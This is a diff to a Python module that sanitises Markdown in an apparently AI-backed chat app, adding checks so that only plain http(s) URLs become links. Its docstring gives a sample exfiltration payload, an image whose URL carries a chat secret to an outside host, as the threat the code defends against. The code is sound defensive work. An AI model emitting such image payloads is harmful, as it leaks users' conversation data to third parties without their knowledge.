@@ -4,12 +4,17 @@ An image in Markdown is fetched by the visitor's browser the moment it is drawn,
 model could send chat content anywhere with `![x](https://host/?d=<secret>)`. Every image becomes a
 link instead (a click opens it); everything else, code included, is left as it was. Short labels
 (titles, model names, error details) are shown as plain text: nothing in them is Markdown.
+
+A URL from outside (a provider's sources, a search, an import) becomes a link only when it is an http(s)
+URL with nothing in it that could end the link early: a newline there ends the link, and what follows
+(an image, say) is Markdown of its own.
 """
 from __future__ import annotations
 
 import re
 import textwrap
 from collections.abc import Callable, Iterator
+from urllib.parse import urlsplit
 
 from markdown_it import MarkdownIt
 from markdown_it.token import Token
@@ -156,6 +161,32 @@ def clip_long_strings(value: object, limit: int = 2_000) -> object:
     if isinstance(value, list):
         return [clip_long_strings(item, limit) for item in value]
     return value
+
+
+MAX_URL_CHARS = 4000
+
+
+def web_link_url(value: object) -> str:
+    """The value when it is an http(s) URL with a host that can stand in a link as it is (at most MAX_URL_CHARS,
+    no whitespace, control or other invisible characters); "" otherwise."""
+    if not isinstance(value, str) or len(value) > MAX_URL_CHARS or " " in value or not value.isprintable():
+        return ""  # isprintable: no other whitespace, line or paragraph separator, control or format character
+    try:
+        parts = urlsplit(value)
+    except ValueError:  # a malformed [IPv6] host
+        return ""
+    return value if parts.scheme.lower() in ("http", "https") and parts.hostname else ""
+
+
+def link_safe(url: str) -> str:
+    """A checked URL as a link destination between `<` and `>`: what would end it or escape its end encoded."""
+    return url.replace("\\", "%5C").replace("<", "%3C").replace(">", "%3E")
+
+
+def markdown_link(label: str, url: object) -> str:
+    """`[label](<url>)` when the URL passes web_link_url, else the label alone (`label`: Markdown already safe)."""
+    checked = web_link_url(url)
+    return f"[{label}](<{link_safe(checked)}>)" if checked else label
 
 
 def plain_text(text: str) -> str:
